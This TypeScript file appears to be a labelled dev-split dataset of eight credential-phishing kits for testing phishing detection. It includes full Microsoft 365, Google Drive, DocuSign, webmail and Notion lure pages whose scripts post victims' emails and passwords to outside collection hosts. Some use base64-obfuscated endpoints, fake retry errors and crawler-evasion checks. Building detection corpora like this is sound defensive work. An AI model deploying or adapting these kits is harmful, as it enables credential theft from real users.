import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, doc, jsRoute, jsonRoute, msSquares, pngRoute } from '../parts/v-kit.js';

// Cloud / workplace credential kits confirmed by analysts (dev split).

const m365Css = `body{margin:0;font-family:"Segoe UI","Segoe UI Web (West European)",-apple-system,Roboto,Arial,sans-serif;background:#f2f2f2 url(/bg/illustration.png) center/cover}
.box{width:440px;margin:9vh auto 0;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2);min-height:338px}
.t{font-size:24px;font-weight:600;margin:16px 0 12px}input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:none;margin-bottom:16px}
.b{float:right;background:#0067b8;color:#fff;border:0;padding:6px 30px;font-size:15px;min-width:108px;cursor:pointer}.s{font-size:13px;margin:8px 0}.s a{color:#0067b8;text-decoration:none}
.id{display:inline-block;border:1px solid #ddd;border-radius:14px;padding:2px 10px;font-size:14px;margin-bottom:8px}.err{color:#e81123;font-size:14px;display:none}
.ft{position:fixed;bottom:0;right:0;font-size:12px;padding:8px 16px;color:#333}.ft a{color:#333;margin-left:12px;text-decoration:none}`;

// 1. Firebase-hosted M365 kit: the logo and tenant branding arrive by script from a branding endpoint.
const h1 = 'docs-viewer-4f2a1.web.app';
const m365WebApp: Entry = {
  id: 'v-phish-m365-webapp-logo-script',
  label: 'phishing',
  kind: 'm365-kit',
  url: `https://${h1}/view/?rid=7d1e0c#amFuZS5vc2Jvcm5lQGhhcnRmb3JkLWVuZ2luZWVyaW5nLmNvbQ==`,
  routes: {
    [`${h1}/view/`]: htmlRoute(
      doc({
        title: 'Sign in to your account',
        css: m365Css,
        body: `<div class="box" id="app"><div id="logo" style="height:24px"></div><div id="ld" class="s">Loading…</div></div>
<div class="ft"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><a href="#">...</a></div>
<script src="/static/js/main.4b1c9e.js"></script>`,
      }),
    ),
    [`${h1}/static/js/main.4b1c9e.js`]: jsRoute(`(function(){
var h=location.hash.slice(1),em='';try{em=atob(h)}catch(e){em=h}
var dom=em.split('@')[1]||'';
function el(i){return document.getElementById(i)}
fetch('/api/v2/branding?d='+encodeURIComponent(dom)).then(function(r){return r.json()}).then(function(b){
 if(b.bg){document.body.style.backgroundImage='url('+b.bg+')'}
 el('logo').innerHTML=b.logo?'<img src="'+b.logo+'" height="24" alt="">':${JSON.stringify(msSquares)};
 var a=el('app');el('ld').remove();
 a.insertAdjacentHTML('beforeend','<div class="id">'+em+'</div><div class="t">Enter password</div>'+
 '<form id="f" autocomplete="off"><div class="err" id="er">Your account or password is incorrect. If you don\\'t remember your password, <a href="#">reset it now.</a></div>'+
 '<input type="password" name="pw" id="pw" placeholder="Password" required><div class="s"><a href="#">Forgot my password</a></div>'+
 '<div class="s"><a href="#">Sign in with another account</a></div><button class="b" type="submit">Sign in</button></form>'+
 (b.text?'<p class="s" style="clear:both;padding-top:24px">'+b.text+'</p>':''));
 var n=0;el('f').onsubmit=function(ev){ev.preventDefault();n++;
  fetch(b.post,{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({u:em,p:el('pw').value,n:n,ua:navigator.userAgent})}).finally(function(){
   if(n<2){el('er').style.display='block';el('pw').value=''}else{location.replace('https://www.office.com/?auth=2')}});};
});
})();`),
    [`${h1}/api/v2/branding`]: jsonRoute({ logo: null, bg: '/bg/illustration.png', text: 'Authorized users only. Access is monitored.', post: 'https://rcv-n0de-22.glitch.me/api/in' }),
    [`${h1}/bg/illustration.png`]: pngRoute(230, 236, 242),
  },
};

// 2. Google Drive "request access" kit on Cloudflare Pages.
const h2 = 'shared-drive-access.pages.dev';
const googleDrive: Entry = {
  id: 'v-phish-google-pagesdev-drive',
  label: 'phishing',
  kind: 'google-kit',
  url: `https://${h2}/file/d/1xQ7vWk2pLr9Zb0aT5mN3cY8eH4jU6sDf/view`,
  body: doc({
    title: 'Q3 Vendor Payment Schedule.xlsx - Google Drive',
    css: `body{font-family:Roboto,Arial,sans-serif;margin:0;background:#fff;color:#202124}.bar{height:56px;display:flex;align-items:center;padding:0 16px;border-bottom:1px solid #dadce0;font-size:18px;color:#5f6368}
.w{max-width:450px;margin:48px auto;border:1px solid #dadce0;border-radius:8px;padding:48px 40px 36px;text-align:center}h1{font-size:24px;font-weight:400;margin:16px 0 8px}
input{width:100%;padding:13px 15px;border:1px solid #dadce0;border-radius:4px;font-size:16px;margin:20px 0 8px}.n{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:9px 24px;font-size:14px;float:right}
.l{color:#1a73e8;font-size:14px;float:left;margin-top:10px;text-decoration:none}.p{font-size:14px;color:#5f6368}.hd{display:none}`,
    body: `<div class="bar"><svg width="40" height="36" viewBox="0 0 87 78"><path d="M6.6 66.85l3.85 6.65c.8 1.4 1.95 2.5 3.3 3.3L27.5 53H0c0 1.55.4 3.1 1.2 4.5z" fill="#0066da"/><path d="M43.65 25L29.9 1.2c-1.35.8-2.5 1.9-3.3 3.3L1.2 48.5A9 9 0 000 53h27.5z" fill="#00ac47"/><path d="M73.55 76.8c1.35-.8 2.5-1.9 3.3-3.3l1.6-2.75 7.65-13.25c.8-1.4 1.2-2.95 1.2-4.5H59.8l5.85 11.5z" fill="#ea4335"/></svg>&nbsp; Drive</div>
<div class="w"><div style="font-size:22px;letter-spacing:-1px"><span style="color:#4285f4">G</span><span style="color:#ea4335">o</span><span style="color:#fbbc05">o</span><span style="color:#4285f4">g</span><span style="color:#34a853">l</span><span style="color:#ea4335">e</span></div>
<h1 id="h">You need access</h1><p class="p" id="sub">Sign in to request access to <b>Q3 Vendor Payment Schedule.xlsx</b>, shared by finance@northbeam-logistics.com</p>
<form id="f" action="https://gdrv-session.workers.dev/collect" method="post">
<input type="email" id="em" name="identifier" placeholder="Email or phone" required>
<input type="password" id="pw" name="Passwd" placeholder="Enter your password" class="hd">
<div style="text-align:left"><a class="l" href="#">Forgot email?</a></div><br><p class="p" style="text-align:left;clear:both;margin-top:30px">Not your computer? Use Guest mode to sign in privately. <a href="#" style="color:#1a73e8">Learn more about using Guest mode</a></p>
<a class="l" href="#">Create account</a><button class="n" id="nx" type="button">Next</button></form></div>
<div style="text-align:center;font-size:12px;color:#5f6368">English (United States) &nbsp; · &nbsp; Help &nbsp; · &nbsp; Privacy &nbsp; · &nbsp; Terms</div>
<script>var st=0;document.getElementById('nx').onclick=function(){var e=document.getElementById('em'),p=document.getElementById('pw');
if(st===0){if(!/.+@.+\\..+/.test(e.value)){e.style.borderColor='#d93025';return}st=1;document.getElementById('h').textContent='Welcome';document.getElementById('sub').textContent=e.value;e.style.display='none';p.classList.remove('hd');p.focus();}
else{document.getElementById('f').submit()}};</script>`,
  }),
};

// 3. DocuSign lure on Azure Blob storage, "review document" reveals the mail-provider picker.
const h3 = 'sgdocstore0091.blob.core.windows.net';
const docusignBlob: Entry = {
  id: 'v-phish-docusign-blob-m365',
  label: 'phishing',
  kind: 'esign-lure-kit',
  url: `https://${h3}/review/DocuSign_Envelope_8841.html`,
  body: doc({
    title: 'DocuSign',
    css: `body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#f4f4f4}.top{background:#1e1e1e;height:60px;display:flex;align-items:center;padding:0 24px}
.top img{height:26px}.mid{max-width:620px;margin:40px auto;background:#fff;padding:0}.ban{background:#4c00ff;color:#fff;text-align:center;padding:34px 24px}
.ban h2{font-weight:400;font-size:18px;margin:12px 0 20px}.rv{background:#ffc820;color:#000;border:0;padding:12px 26px;font-weight:700;font-size:14px;cursor:pointer}
.txt{padding:28px 34px;font-size:15px;color:#333}.ov{display:none;position:fixed;inset:0;background:rgba(0,0,0,.55)}.md{background:#fff;width:380px;margin:12vh auto;padding:28px;border-radius:4px}
.md input{width:100%;padding:10px;margin:6px 0 12px;border:1px solid #bbb}.md button{width:100%;background:#4c00ff;color:#fff;border:0;padding:12px;font-weight:700}.pv{display:flex;gap:8px;margin:14px 0}.pv span{flex:1;border:1px solid #ccc;padding:8px;text-align:center;font-size:12px;cursor:pointer}`,
    body: `<div class="top"><img src="ds-logo.png" alt="DocuSign"></div>
<div class="mid"><div class="ban"><div style="font-size:40px">&#128196;</div><h2>Accounts Payable sent you a document to review and sign.</h2><button class="rv" onclick="document.getElementById('ov').style.display='block'">REVIEW DOCUMENT</button></div>
<div class="txt"><b>Hartley &amp; Finch Accounts Payable</b><br><span style="color:#666">ap@hartleyfinch-partners.com</span><p>Please review and complete the attached Remittance / Payment Confirmation (2 pages). This envelope expires in 48 hours.</p><p>Thank you,<br>Accounts Payable</p></div>
<div class="txt" style="font-size:12px;color:#777;border-top:1px solid #eee"><b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.<br><br><b>About DocuSign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.</div></div>
<div class="ov" id="ov"><div class="md"><b>Verify your identity to access the document</b><p style="font-size:13px;color:#555">Select your email provider and sign in with your email credentials.</p>
<div class="pv"><span>Outlook</span><span>Office 365</span><span>Other Mail</span></div>
<form method="POST" action="https://formsubmit-relay.online/ds/post.php"><input name="email" type="email" placeholder="Email address" required><input name="password" type="password" placeholder="Email password" required><button>View Document</button></form>
<p style="font-size:11px;color:#888">Secured by DocuSign&reg; Identity Verification</p></div></div>`,
  }),
  routes: { [`${h3}/review/ds-logo.png`]: pngRoute(255, 200, 32) },
};

// 4. HTML attachment (remittance advice) opened in the browser: the whole kit is an atob()ed blob.
const h4 = 'files.remit-notice-portal.com';
const attachInner = `<div style="font-family:Segoe UI,Arial;max-width:420px;margin:10vh auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)">
<img src="data:image/svg+xml;base64,${b64(msSquares)}" alt="Microsoft"><h2 style="font-weight:600">Verify your account</h2>
<p style="font-size:14px">Because you're accessing sensitive info, you need to verify your password to open <b>ACH_Remittance_0923.pdf</b></p>
<form id="lf"><input id="u" style="width:100%;padding:8px 0;border:0;border-bottom:1px solid #666;margin-bottom:14px" readonly><input id="p" type="password" placeholder="Password" style="width:100%;padding:8px 0;border:0;border-bottom:1px solid #666">
<p id="m" style="color:#e81123;font-size:13px"></p><button style="float:right;background:#0067b8;color:#fff;border:0;padding:7px 32px">Sign in</button></form></div>`;
const attachRemit: Entry = {
  id: 'v-phish-html-attachment-remittance',
  label: 'phishing',
  kind: 'html-attachment',
  url: `https://${h4}/dl/ACH_Remittance_Advice_0923.html`,
  body: `<html><head><meta charset="utf-8"><title>&#8203;</title></head><body style="background:#ececec">
<script>
var _0x4e=["${b64(attachInner)}","d.thompson@meridian-freight.com","aHR0cHM6Ly9ub3RpZnktdHJhY2suc2hvcC9kcm9wL2cucGhw"];
(function(x){document.write(decodeURIComponent(escape(atob(x[0]))));document.getElementById('u').value=x[1];
var c=0;document.getElementById('lf').addEventListener('submit',function(e){e.preventDefault();c++;
var d=new FormData();d.append('e',x[1]);d.append('p',document.getElementById('p').value);d.append('ref','ACH0923');
fetch(atob(x[2]),{method:'POST',body:d,mode:'no-cors'});document.getElementById('m').textContent=c<3?'Incorrect password. Please try again.':'';
if(c>=3){location.href='https://outlook.office.com/mail/'}document.getElementById('p').value='';});})(_0x4e);
</script></body></html>`,
};

// 5. Roundcube-style webmail kit on an IPFS gateway; the mail domain picks the branding.
const h5 = 'bafybeigh4kq7xr3w2m5ue6d2jfq4dcyv6zjrk3nq5v7l4tg2dmbbwm5mei.ipfs.dweb.link';
const ipfsRoundcube: Entry = {
  id: 'v-phish-ipfs-roundcube',
  label: 'phishing',
  kind: 'webmail-kit',
  url: `https://${h5}/?filename=index.html&email=accounts@coastalpumpservices.com.au`,
  routes: {
    [`${h5}/`]: htmlRoute(
      doc({
        title: 'Webmail :: Welcome to Webmail',
        css: `body{background:#2f3a3f;font-family:Roboto,"Helvetica Neue",Arial,sans-serif;margin:0}#lb{width:360px;margin:12vh auto;background:#fff;border-radius:4px;padding:30px 34px;text-align:center}
#lb img{max-height:60px;margin-bottom:10px}#lb input{width:100%;padding:10px;margin:6px 0;border:1px solid #ccc;border-radius:3px}#lb button{width:100%;padding:11px;background:#37beff;border:0;color:#fff;font-size:15px;border-radius:3px;margin-top:8px}
.note{font-size:12px;color:#888;margin-top:18px}`,
        body: `<div id="lb"><img id="lg" src="" alt=""><h3 id="dn">Webmail</h3><form id="frm"><input id="ue" name="_user" placeholder="Username"><input id="pe" name="_pass" type="password" placeholder="Password"><button>Login</button></form>
<div class="note" id="nt">Session expired. Please login again to continue to your mailbox.</div></div>
<div style="text-align:center;color:#9aa;font-size:11px">Roundcube Webmail · Secured by cPanel</div>
<script>
var q=new URLSearchParams(location.search),em=q.get('email')||'',dm=em.split('@')[1]||'';
document.getElementById('ue').value=em;document.getElementById('dn').textContent=dm?dm+' Webmail':'Webmail';document.title=dm+' :: Webmail';
document.getElementById('lg').src='https://icons.favicon-grabber.io/v1/logo?domain='+dm;
var t=0;document.getElementById('frm').onsubmit=function(e){e.preventDefault();t++;
var x=new XMLHttpRequest();x.open('POST','https://mx-check-validate.site/rc/ok.php',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
x.send('u='+encodeURIComponent(em)+'&p='+encodeURIComponent(document.getElementById('pe').value)+'&t='+t);
document.getElementById('nt').innerHTML='<span style="color:red">Login failed. Invalid password.</span>';if(t>1)setTimeout(function(){location='http://'+dm},1500)};
</script>`,
      }),
    ),
    ['icons.favicon-grabber.io/v1/logo']: pngRoute(20, 120, 180),
  },
};

// 6. Notion public page used as a lure: the "secure handbook" button leads to the kit.
const h6 = 'hr-policies-2026.notion.site';
const notionLure: Entry = {
  id: 'v-phish-notion-site-hr-handbook',
  label: 'phishing',
  kind: 'hosted-lure',
  url: `https://${h6}/Employee-Handbook-Acknowledgement-2026-8f3c21a09be44d7c9a15f7e0d3b6c2aa`,
  body: doc({
    title: 'Employee Handbook Acknowledgement 2026',
    css: `body{font-family:ui-sans-serif,-apple-system,"Segoe UI",Helvetica,Arial,sans-serif;color:#37352f;margin:0}.tb{height:45px;display:flex;align-items:center;padding:0 12px;font-size:14px}
.pg{max-width:708px;margin:60px auto;padding:0 24px}h1{font-size:40px;font-weight:700;margin:0 0 12px}.cl{background:#f1f1ef;border-radius:4px;padding:16px;display:flex;gap:10px;margin:18px 0}
.bt{display:inline-block;background:#2383e2;color:#fff;padding:8px 16px;border-radius:4px;text-decoration:none;font-weight:500}`,
    body: `<div class="tb">&#128196; Employee Handbook Acknowledgement 2026 <span style="margin-left:auto;color:#999">Share · Get Notion free</span></div>
<div class="pg"><div style="font-size:72px">&#128203;</div><h1>Employee Handbook Acknowledgement 2026</h1>
<p>All staff are required to review the updated Employee Handbook (rev. January 2026) and submit their acknowledgement by <b>Friday 5pm</b>. Changes include the hybrid working policy, expenses limits and the revised salary review calendar.</p>
<div class="cl"><span>&#9888;&#65039;</span><div>The handbook contains confidential salary band information and is shared through our secure Microsoft 365 portal. Sign in with your <b>work email</b> to view and e-sign.</div></div>
<p><a class="bt" href="https://hrdocs-share.com/m365/auth/?src=notion&amp;doc=handbook2026">Open Secure Handbook &rarr;</a></p>
<p style="color:#787774;font-size:14px">Questions? Contact People Operations. Failure to acknowledge may delay payroll processing for the next cycle.</p>
<ul><li>Estimated reading time: 12 minutes</li><li>Acknowledgement form: 1 minute</li></ul></div>`,
  }),
};

// 7. Shortener -> open redirect on an ad host -> Azure App Service kit behind a fake bot check.
const h7a = 'lnk.ink-go.co';
const h7b = 'ads.track-mediahub.net';
const h7c = 'bxq-corp-auth.azurewebsites.net';
const shortChain: Entry = {
  id: 'v-phish-shortener-openredirect-m365',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: `https://${h7a}/Xa91pQ`,
  routes: {
    [`${h7a}/Xa91pQ`]: redirectRoute(302, `https://${h7b}/click?cid=88231&redir=${encodeURIComponent(`https://${h7c}/o/?u=bWFyay5lbGxpc0BncmVlbnZhbGUtaGVhbHRoLm9yZw`)}`),
    [`${h7b}/click`]: redirectRoute(302, `https://${h7c}/o/?u=bWFyay5lbGxpc0BncmVlbnZhbGUtaGVhbHRoLm9yZw`),
    [`${h7c}/o/`]: htmlRoute(
      doc({
        title: 'Just a moment...',
        css: m365Css + `#chk{font-family:system-ui;text-align:center;margin-top:20vh}#chk .sp{width:28px;height:28px;border:3px solid #ccc;border-top-color:#0067b8;border-radius:50%;animation:r 1s linear infinite;margin:20px auto}@keyframes r{to{transform:rotate(360deg)}}`,
        body: `<div id="chk"><h2>Verifying you are human. This may take a few seconds.</h2><div class="sp"></div><p class="s">${h7c} needs to review the security of your connection before proceeding.</p></div>
<div class="box" id="bx" style="display:none">${msSquares}<div class="id" id="who" style="margin-top:16px"></div><div class="t">Enter password</div>
<form id="f" method="post" action="/o/next"><input type="hidden" name="login" id="lg"><input type="password" name="passwd" placeholder="Password" required>
<div class="s"><a href="#">Forgot my password</a></div><button class="b">Sign in</button></form></div>
<script>
(function(){var bad=navigator.webdriver||/HeadlessChrome|bot|crawl|spider/i.test(navigator.userAgent);
if(bad){location.replace('https://www.wikipedia.org/');return}
var u=new URLSearchParams(location.search).get('u')||'';var e='';try{e=atob(u)}catch(x){}
setTimeout(function(){document.getElementById('chk').style.display='none';document.getElementById('bx').style.display='block';document.title='Sign in to your account';
document.getElementById('who').textContent=e;document.getElementById('lg').value=e;},2200);})();
</script>`,
      }),
    ),
  },
};

// 8. Compromised WordPress site hosting a "mailbox storage full" kit; e-mail comes from the query string.
const h8 = 'www.pinecrest-landscaping.com';
const quota: Entry = {
  id: 'v-phish-webmail-quota-hash-email',
  label: 'phishing',
  kind: 'webmail-kit',
  url: `https://${h8}/wp-includes/fonts/upgrade/index.php?email=r.kaur@lakeshore-dental.ca`,
  routes: {
    [`${h8}/wp-includes/fonts/upgrade/index.php`]: htmlRoute(
      doc({
        title: 'Mailbox Storage Alert',
        css: `body{font-family:Tahoma,Verdana,sans-serif;background:#eef1f5;margin:0}.c{width:460px;margin:8vh auto;background:#fff;border-top:4px solid #d9534f;padding:28px}
.bar{height:16px;background:#eee;border-radius:8px;overflow:hidden}.bar div{width:99%;height:100%;background:#d9534f}input{width:100%;padding:9px;margin:5px 0 12px;border:1px solid #bbb}
button{background:#d9534f;color:#fff;border:0;padding:10px 22px;font-weight:bold}`,
        body: `<div class="c"><h3 style="margin-top:0" id="hd">Mailbox almost full</h3>
<p style="font-size:13px">Your mailbox <b id="mb"></b> has exceeded its storage limit. <b>12 incoming messages</b> are currently on hold and will be deleted after 24 hours.</p>
<div class="bar"><div></div></div><p style="font-size:12px;color:#666">9.98 GB / 10 GB used (99%)</p>
<p style="font-size:13px">To release pending messages and upgrade your storage quota at no cost, confirm your mailbox password below.</p>
<form method="post" action="next.php"><label style="font-size:12px">Email</label><input name="email" id="em" readonly><label style="font-size:12px">Password</label><input type="password" name="pass" required>
<button>Release Messages &amp; Upgrade</button></form><p style="font-size:11px;color:#999;margin-top:20px">&copy; 2026 Mail Administrator. This is an automated system notification.</p></div>
<script>var m=new URLSearchParams(location.search).get('email')||'';document.getElementById('mb').textContent=m;document.getElementById('em').value=m;document.getElementById('hd').textContent=(m.split('@')[1]||'')+' - Mailbox almost full';</script>`,
      }),
    ),
  },
};

export const entries: Entry[] = [m365WebApp, googleDrive, docusignBlob, attachRemit, ipfsRoundcube, notionLure, shortChain, quota];
